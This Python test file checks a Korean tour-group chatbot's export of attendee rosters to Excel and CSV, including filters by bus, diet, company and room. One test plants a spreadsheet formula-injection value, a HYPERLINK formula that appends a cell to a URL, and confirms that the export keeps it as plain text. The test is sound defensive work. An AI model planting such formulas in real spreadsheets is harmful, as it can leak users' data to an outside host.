import csv
import io

import pytest
from openpyxl import load_workbook

from handlers.reply import Document, Outcome, Reply
from schedule_data.spreadsheets import CSV, XLSX
from tests.build import person
from tests.handlers.talk_scene import NOON, Talk

STAFF, LEADER, MINE = "김도현", "정현수", "이서연"


def _document(reply: Reply) -> Document:
    assert reply.document is not None
    return reply.document


def _rows(reply: Reply) -> list[tuple[object, ...]]:
    page = load_workbook(io.BytesIO(_document(reply).content)).active
    assert page is not None
    return list(page.iter_rows(values_only=True))


def test_everybody_as_a_spreadsheet(talk: Talk) -> None:
    talk.say(MINE, "10분 늦어요")
    talk.session.flush()
    reply = talk.say(STAFF, "엑셀로 줘")
    assert (_document(reply).name, _document(reply).media_type) == ("beijing-1-0923-0750.xlsx", XLSX)
    rows = _rows(reply)
    assert rows[0][:7] == ("이름", "영문 이름", "회사", "버스·조", "객실", "식단", "전화")
    assert len(rows) == 41
    mine = next(row for row in rows if row[0] == MINE)
    assert mine[8:13] == ("예", "늦음", 10, None, "본인 확인")


def test_those_of_the_last_answer(talk: Talk) -> None:
    talk.converse(STAFF, "2호차 채식 몇 명")
    reply = talk.converse(STAFF, "엑셀로 줘")
    assert reply is not None
    assert [row[0] for row in _rows(reply)[1:]] == ["문성민", "Emily Carter"]
    everybody = talk.converse(STAFF, "전체 명단 엑셀로 줘")
    assert everybody is not None
    assert len(_rows(everybody)) == 41


def test_the_missing_of_the_last_answer(talk: Talk) -> None:
    for name in ("문성민",):
        talk.tap(LEADER, "attendance.here", person=str(person(talk.session, name).id))
    talk.converse(STAFF, "2호차 채식 미탑승")
    reply = talk.converse(STAFF, "엑셀로 줘")
    assert reply is not None
    assert [row[0] for row in _rows(reply)[1:]] == ["Emily Carter"]


def test_a_button_brings_the_other_format(talk: Talk) -> None:
    first = talk.tap(STAFF, "export", group="bus-2")
    reply = talk.press(STAFF, first.buttons[0])
    assert _document(reply).media_type == CSV
    rows = list(csv.reader(io.StringIO(_document(reply).content.decode("utf-8-sig"))))
    assert len(rows) == 21
    assert rows[1][6] == "'+82-10-0000-1021"
    back = talk.press(STAFF, reply.buttons[0])
    assert (_document(back).media_type, len(_rows(back))) == (XLSX, 21)


def _chosen(reply: Reply) -> tuple[str, list[str]]:
    document = _document(reply)
    if document.media_type == XLSX:
        return reply.paragraphs[1], [str(row[0]) for row in _rows(reply)[1:]]
    rows = csv.reader(io.StringIO(document.content.decode("utf-8-sig")))
    return reply.paragraphs[1], [row[0] for row in rows][1:]


@pytest.mark.parametrize(
    ("words", "media_type", "by", "people"),
    [
        ("새롬금융 2호차 명단 csv", CSV, "2호차 · 새롬금융 · 샤오미 슈퍼공장 견학 · 07:50 기준", 2),
        ("2호차 csv로 줘", CSV, "2호차 · 샤오미 슈퍼공장 견학 · 07:50 기준", 20),
        ("1호차 도착한 사람 엑셀로", XLSX, "1호차 · 도착 · 샤오미 슈퍼공장 견학 · 07:50 기준", 1),
        ("2호차 미도착 엑셀로", XLSX, "2호차 · 미도착 · 샤오미 슈퍼공장 견학 · 07:50 기준", 20),
        ("영어 쓰는 사람 엑셀", XLSX, "영어 사용 · 샤오미 슈퍼공장 견학 · 07:50 기준", 2),
        ("803호 엑셀", XLSX, "803호 · 샤오미 슈퍼공장 견학 · 07:50 기준", 1),
        ("2호차 텔레그램 쓰는 사람 csv로 줘", CSV, "2호차 · 텔레그램 이용 · 샤오미 슈퍼공장 견학 · 07:50 기준", 1),
        ("어제 3시 2호차 채식 명단 엑셀로", XLSX, "2호차 · 채식 · 포패러다임 방문 · 9월 22일(월) 15:00 기준", 2),
        ("체크아웃 명단 엑셀", XLSX, "체크아웃 · 07:50 기준", 40),
    ],
)
def test_the_file_that_the_sentence_asks_for(talk: Talk, words: str, media_type: str, by: str, people: int) -> None:
    talk.say(MINE, "탔어요")
    talk.converse(STAFF, "채식 몇 명")  # an answer before must not choose for it
    reply = talk.converse(STAFF, words)
    assert reply is not None
    told, names = _chosen(reply)
    assert (_document(reply).media_type, told, len(names)) == (media_type, by, people)


def test_the_same_people_in_another_format(talk: Talk) -> None:
    talk.converse(STAFF, "2호차 채식 csv로 줘")
    reply = talk.converse(STAFF, "엑셀로 줘")
    assert reply is not None
    assert (_document(reply).media_type, len(_rows(reply))) == (XLSX, 3)


def test_what_a_spreadsheet_would_run_stays_text(talk: Talk) -> None:
    evil = '=HYPERLINK("http://127.0.0.1/?"&A1,"!")'
    person(talk.session, MINE).company = evil
    talk.session.flush()
    reply = talk.tap(STAFF, "export", company="HYPERLINK")
    page = load_workbook(io.BytesIO(_document(reply).content)).active
    assert page is not None
    assert (page["C2"].value, page["C2"].data_type) == (evil, "s")
    assert (page["G2"].value, page["G2"].data_type) == ("+82-10-0000-1002", "s")
    text = _document(talk.tap(STAFF, "export", company="HYPERLINK", format="csv")).content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1][2] == f"'{evil}"


def test_nobody_makes_no_file(talk: Talk) -> None:
    reply = talk.tap(STAFF, "export", NOON, company="없는 회사")
    assert (reply.document, reply.paragraphs) == (None, ("명단에 맞는 분이 없어서 만들 파일이 없어요.",))


def test_a_file_after_a_question_that_was_not_understood_has_everybody(talk: Talk) -> None:
    asked = talk.converse(STAFF, "여자 몇 명이야?")
    assert asked is not None
    assert asked.outcome is not Outcome.ANSWER
    reply = talk.converse(STAFF, "명단 엑셀로 줘")
    assert reply is not None
    assert reply.paragraphs[0] == "40명 명단을 파일로 드려요."
